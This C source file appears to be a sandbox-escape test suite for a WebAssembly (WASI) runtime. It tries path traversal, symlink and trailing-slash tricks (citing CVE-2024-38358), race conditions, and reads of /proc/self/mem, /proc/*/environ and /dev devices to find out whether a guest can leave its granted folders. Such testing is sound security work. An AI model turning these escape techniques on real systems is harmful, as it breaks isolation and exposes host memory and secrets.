/* Paths that lead out of a folder: read what no grant names. */
#include "attack.h"

static const char *const spellings[] = { "%s/secret", "%s//secret", "%s/./secret", "%s/../outside/secret", "%s/secret/../secret" };
static const char *const folders[] = { "%s", "%s/", "%s//", "%s/.", "%s/./" };

static bool spill_through(int folder, const char *name)
{
	char path[PATH_MAX];
	bool any = false;
	for (size_t i = 0; i < sizeof spellings / sizeof *spellings; i++) {
		snprintf(path, sizeof path, spellings[i], name);
		any |= spill_below(folder, path);
	}
	for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
		snprintf(path, sizeof path, folders[i], name);
		for (int follow = 0; follow < 2; follow++) {
			int below = open_below(folder, path, follow, __WASI_OFLAGS_DIRECTORY);
			if (below < 0)
				continue;
			any |= spill_below(below, "secret");
			close(below);
		}
	}
	return any;
}

static int plainly(bool any)
{
	return any ? DONE : spill_path(need("secret"));
}

/* A link that is named as a folder is followed by some that do not follow links (CVE-2024-38358 and its kin). */
int attack_wasi_trailing_slash(void)
{
	int folder = own_folder();
	bool any = false;
	make_link(folder, need("outside"), "absolute");
	make_link(folder, "../outside", "relative");
	make_link(folder, "sub/../../outside", "winding");
	make_link(folder, "absolute/", "twice");
	const char *names[] = { "link", "sub-link", "relative-link", "absolute", "relative", "winding", "twice" };
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		any |= spill_through(folder, names[i]);
	return plainly(any);
}

static bool spill_climbing(int folder, const char *step, const char *target)
{
	enum { LEVELS = 16 };
	char path[PATH_MAX] = "";
	bool any = false;
	for (int level = 0; level < LEVELS; level++) {
		strcat(path, step);
		size_t length = strlen(path);
		snprintf(path + length, sizeof path - length, "%s", target);
		any |= spill_below(folder, path);
		path[length] = 0;
	}
	return any;
}

int attack_wasi_climb(void)
{
	const char *steps[] = { "../", "./../", "..//", "../././", "sub/../../" };
	const char *targets[] = { need("secret") + 1, "outside/secret", "secret" };
	bool any = false;
	for (int folder = FIRST_FOLDER; folder < LAST_FOLDER; folder++)
		for (size_t i = 0; i < sizeof steps / sizeof *steps; i++)
			for (size_t j = 0; j < sizeof targets / sizeof *targets; j++)
				any |= spill_climbing(folder, steps[i], targets[j]);
	return plainly(any);
}

int attack_wasi_absolute(void)
{
	const char *secret = need("secret");
	bool any = false;
	for (int folder = FIRST_FOLDER; folder < LAST_FOLDER; folder++) {
		any |= spill_below(folder, secret);
		any |= spill_below(folder, PATH_OF("/%s", secret));
		any |= spill_below(folder, PATH_OF("./%s", secret));
		any |= spill_below(folder, PATH_OF("//..//%s", secret));
	}
	return plainly(any);
}

/* Links that the guest makes, of each kind, and a chain of them. */
int attack_wasi_symlink(void)
{
	int folder = own_folder();
	bool any = false;
	const char *targets[] = { need("secret"), "../outside/secret", "../../../../../../../../outside/secret",
				  PATH_OF("../../../../../../../..%s", need("secret")), "made/../../outside/secret" };
	for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
		make_link(folder, targets[i], "direct");
		make_link(folder, "direct", "chained");
		make_link(folder, "..", "made/up");
		any |= spill_below(folder, "direct");
		any |= spill_below(folder, "chained");
		any |= spill_below(folder, "made/../chained");
		any |= spill_below(folder, "made/up/../outside/secret");
	}
	return plainly(any);
}

/* A folder that was opened is a place to climb from, above all once it has been moved. */
int attack_wasi_climb_from_folder(void)
{
	int folder = own_folder();
	bool any = false;
	__wasi_path_create_directory(folder, "deep");
	__wasi_path_create_directory(folder, "deep/deeper");
	int below = open_below(folder, "deep/deeper", 0, __WASI_OFLAGS_DIRECTORY);
	if (below < 0)
		unready("deep/deeper");
	any |= spill_climbing(below, "../", "outside/secret");
	__wasi_path_rename(folder, "deep/deeper", folder, "moved");
	any |= spill_climbing(below, "../", "outside/secret");
	__wasi_path_remove_directory(folder, "moved");
	any |= spill_climbing(below, "../", "outside/secret");
	any |= spill_below(below, need("secret"));
	return plainly(any);
}

/* Somebody exchanges a folder and a link while the path is resolved. */
int attack_wasi_race_folder(void)
{
	int folder = own_folder();
	bool any = false;
	while (!any && race_goes_on()) {
		any |= spill_below(folder, "sub/secret");
		int below = open_below(folder, "sub", 0, __WASI_OFLAGS_DIRECTORY);
		if (below < 0)
			continue;
		any |= spill_below(below, "secret");
		close(below);
	}
	return plainly(any);
}

/* Somebody moves a folder up while `..` is resolved in it. */
int attack_wasi_race_climb(void)
{
	int folder = own_folder();
	bool any = false;
	while (!any && race_goes_on()) {
		any |= spill_below(folder, "sub/target/../../outside/secret");
		any |= spill_below(folder, "sub/target/../../../outside/secret");
	}
	return plainly(any);
}

/* ---- what the worker could open for itself ---- */

static int hold_any(const char *const *paths, size_t count)
{
	int folder = own_folder();
	for (size_t i = 0; i < count; i++) {
		make_link(folder, paths[i], "special");
		int fd = open_below(folder, "special", __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, 0);
		for (int other = FIRST_FOLDER; fd < 0 && other < LAST_FOLDER; other++)
			fd = open_below(other, paths[i] + 1, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, 0);
		if (fd < 0)
			fd = open(paths[i], O_RDONLY);
		if (fd >= 0)
			return held();
	}
	return refused("open");
}

/* The engine's own memory: who writes there is no longer a guest of WebAssembly. */
int attack_wasi_process_memory(void)
{
	static const char *const paths[] = { "/proc/self/mem", "/proc/thread-self/mem", "/proc/1/mem", "/proc/2/mem" };
	return hold_any(paths, sizeof paths / sizeof *paths);
}

int attack_wasi_process_environment(void)
{
	const char *paths[] = { "/proc/self/environ", "/proc/1/environ", "/proc/2/environ", "/proc/3/environ" };
	bool any = false;
	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
		any |= spill_path(paths[i]) == DONE;
	return any ? DONE : REFUSED;
}

int attack_wasi_devices(void)
{
	static const char *const paths[] = { "/dev/ptmx", "/dev/kmsg", "/dev/mem", "/dev/fuse", "/dev/net/tun", "/dev/tty" };
	return hold_any(paths, sizeof paths / sizeof *paths);
}

int attack_wasi_settings(void)
{
	const char *paths[] = { "/proc/version", "/proc/sys/kernel/version", "/sys/kernel/notes" };
	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
		if (spill_path(paths[i]) == DONE)
			return DONE;
	return REFUSED;
}
